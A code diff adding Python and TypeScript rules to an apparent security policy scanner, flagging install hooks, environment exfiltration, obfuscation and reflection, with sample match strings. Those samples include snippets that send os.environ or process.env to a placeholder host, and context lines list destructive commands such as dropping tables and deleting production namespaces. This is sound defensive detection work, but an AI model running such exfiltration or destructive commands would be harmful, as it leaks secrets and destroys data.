@@ -196,6 +196,12 @@ rules! {
         match: ["terraform destroy", "terraform apply -auto-approve", "kubectl delete ns prod", "aws ec2 terminate-instances --instance-ids i-1", "psql -c 'DROP TABLE users'", "redis-cli flushall", "docker compose down -v"],
         no_match: ["terraform plan", "kubectl get pods", "aws s3 ls", "psql -c 'select 1'", "docker compose down"] }
 
+    PY_INSTALL_HOOK = { "py.install_hook", "supply-chain", Review, locked: false, Python,
+        "setup() overrides install commands: installing the package runs arbitrary code.",
+        match: ["from setuptools import setup\nsetup(name='x', cmdclass={'install': Hook})"], no_match: ["from setuptools import setup\nsetup(name='x')"] }
+    PY_EXFILTRATION = { "py.exfiltration", "credentials", Deny, locked: false, Python,
+        "The environment or credential files are sent over the network.",
+        match: ["import os,json,urllib.request as u\nu.urlopen('http://x', json.dumps(dict(os.environ)).encode())"], no_match: ["import os\nprint(os.environ['HOME'])"] }
     PY_EXEC_DYNAMIC = { "py.exec_dynamic", "eval", Deny, locked: false, Python,
         "exec/eval/compile run code that is not a literal.",
         match: ["exec(data)", "eval(input())"], no_match: ["eval('1+1')", "print(exec)"] }
@@ -240,6 +246,15 @@ rules! {
         "Start-up, cron or access-control files are written.",
         match: ["open('/etc/crontab', 'a').write(x)"], no_match: ["open('/etc/crontab').read()"] }
 
+    TS_OBFUSCATED = { "ts.obfuscated", "obfuscation", Review, locked: false, Typescript,
+        "Machine-obfuscated code: `_0x` identifiers, string arrays, XOR decoding, hex strings hiding names.",
+        match: ["var _0x1 = 1, _0x2 = 2, _0x3 = _0x1 + _0x2;", "g('72657175697265')"], no_match: ["const total = a + b;"] }
+    TS_REFLECTION = { "ts.reflection", "obfuscation", Review, locked: false, Typescript,
+        "A module's functions are reached by computed names or reflection, hiding what is called.",
+        match: ["const os = require('os'); os[name]()", "const os = require('os'); Reflect.get(os, 'hostname')()"], no_match: ["const os = require('os'); os.hostname()"] }
+    TS_EXFILTRATION = { "ts.exfiltration", "credentials", Deny, locked: false, Typescript,
+        "The environment, local files or cookies are sent over the network.",
+        match: ["await fetch('http://x', { method: 'POST', body: JSON.stringify(process.env) })"], no_match: ["await fetch('http://x')"] }
     TS_EVAL = { "ts.eval", "eval", Deny, locked: false, Typescript,
         "eval, `new Function`, `Function()` or string timers run code that is not a literal.",
         match: ["eval(a);", "new Function('return 1')()", "setTimeout('alert(1)', 10)"], no_match: ["eval('1+1')", "setTimeout(() => 1, 10)"] }
